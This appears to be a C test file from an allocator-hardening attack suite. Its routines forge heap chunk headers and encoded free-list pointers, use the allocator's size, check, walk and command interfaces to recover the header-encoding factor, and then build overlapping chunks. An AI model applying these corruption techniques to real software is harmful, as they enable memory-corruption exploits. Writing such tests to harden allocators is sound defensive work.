/* Attacks on what says how much memory there is, and whether it is sound: figures that do not end, and those that show what a word decodes to. Two words that
 * are chosen and their sizes give the factor of headers; then adding to a header makes a block as long as the attacker likes. */
#include "attacks.h"

struct mallinfo mallinfo(void) __attribute__((weak));
struct hg_heap;

enum { kLarge = 40000 };

/* What a header is multiplied by, from what three words decode to, each with its flags cleared, in a sum that a program shows. */
uint32_t factor_of(uint32_t *word, uint32_t (*shown)(uint32_t *)) {
  const uint32_t before = *word, none = shown(word), one = (++*word, shown(word)) - none, eight = (*word += 7, shown(word)) - none;
  *word = before;
  uint32_t unspread = eight / 8;
  while (one - unspread + 8 > 16 && unspread < 0xe0000000u) unspread += 0x20000000u;
  uint32_t spread = unspread;
  for (int step = 0; step < 5; ++step) spread *= 2 - unspread * spread;
  return spread;
}
enum { kFactored = 800 };
static char *factored[8];
void take_factored(void) {
  for (int i = 0; i < 8; ++i) factored[i] = take(kFactored);
}
void use_factor(uint32_t factor) { /* a block becomes as long as it and the one behind it */
  for (int i = 0; i < 7; ++i) {
    const size_t chunk = malloc_usable_size(factored[i]) + 4;
    if (factored[i] + chunk != factored[i + 1]) continue;
    *header_of(factored[i]) += (uint32_t)chunk * factor;
    give(factored[i]);
    for (size_t size = 2 * chunk - 4; size > chunk; size -= 8) take(size);
    return;
  }
}

static void figures_of_nothing(void) { /* a cached chunk leads to the end of a segment, a chunk of no bytes, and what follows there leads back to it */
  char *const cached = take(800);
  take(800);
  trim_away(take(50 * kLarge), 50 * kLarge);
  give(cached);
  *(uint32_t *)cached ^= address(run_next);
  *run_next ^= address(run_next);
  if (mallinfo != NULL) mallinfo();
}

size_t hg_usable_size(const void *mem) __attribute__((weak));
static uint32_t shown_size(uint32_t *word) { return (uint32_t)hg_usable_size(word + 1); }
static void usable_size_tells_factor(void) { /* of what lies in no heap: a variable of the program */
  uint32_t words[8] = {0};
  if (hg_usable_size == NULL) return;
  take_factored();
  use_factor(factor_of(words + 1 + ((uintptr_t)words / 4) % 2, shown_size));
}

const char *hg_heap_check(const struct hg_heap *heap) __attribute__((weak));
static uint32_t shown_broken(uint32_t *unused) { /* a header that was added to, in the text that says what is wrong */
  const char *const text = hg_heap_check(NULL), *const found = text == NULL ? NULL : strrchr(text, ' ');
  (void)unused;
  return found == NULL ? 0 : (uint32_t)strtoul(found + 1, NULL, 0) & ~7u;
}
static void check_tells_factor(void) {
  if (hg_heap_check == NULL) return;
  take_factored();
  *header_of(factored[2]) += 64;
  const uint32_t factor = factor_of(header_of(factored[2]), shown_broken);
  *header_of(factored[2]) -= 64;
  use_factor(factor);
}

typedef struct {
  const void *heap;
  size_t state[13];
} Walk;
void hg_walk_begin(Walk *walk, const struct hg_heap *heap) __attribute__((weak));
size_t hg_walk_next(Walk *walk, uint32_t *record, size_t capacity) __attribute__((weak));
static uint32_t shown_by_walk(uint32_t *word) { /* which ends with this header */
  uint32_t record[4] = {0};
  Walk walk;
  hg_walk_begin(&walk, NULL);
  while (record[1] != address(word) && hg_walk_next(&walk, record, 1) != 0) {
  }
  return record[2];
}
static void walk_tells_factor(void) {
  if (hg_walk_begin == NULL) return;
  take_factored();
  use_factor(factor_of(header_of(factored[2]), shown_by_walk));
}

typedef struct {
  void *mem;
  size_t received;
  uint32_t status, reused;
} Result;
Result hg_heap_command(struct hg_heap *heap, uint32_t flags, size_t object_size, size_t limit, size_t preferred, void *reuse) __attribute__((weak));
static uint32_t shown_by_command(uint32_t *unused) { /* it fails, and says how many bytes there are at once */
  (void)unused;
  return (uint32_t)hg_heap_command(NULL, 1, 1, 0xffffff00u, 0xffffff00u, NULL).received & ~7u;
}
static void command_tells_factor(void) { /* the last of the bin of the largest chunks leads to a block of the program */
  char *at[3];
  if (hg_heap_command == NULL) return;
  take_factored();
  char *const mem = take(100);
  for (int i = 0; i < 3; ++i) at[i] = take(60 * kLarge), take(kLarge);
  for (int i = 0; i < 3; ++i) give(at[i]);
  *(uint32_t *)at[0] ^= address(mem);
  const uint32_t factor = factor_of((uint32_t *)mem, shown_by_command);
  *(uint32_t *)at[0] ^= address(mem);
  use_factor(factor);
}

const Row kFigureRows[] = {ROW(figures_of_nothing), ROW(usable_size_tells_factor), ROW(check_tells_factor), ROW(walk_tells_factor),
                           ROW(command_tells_factor), {NULL, NULL}};
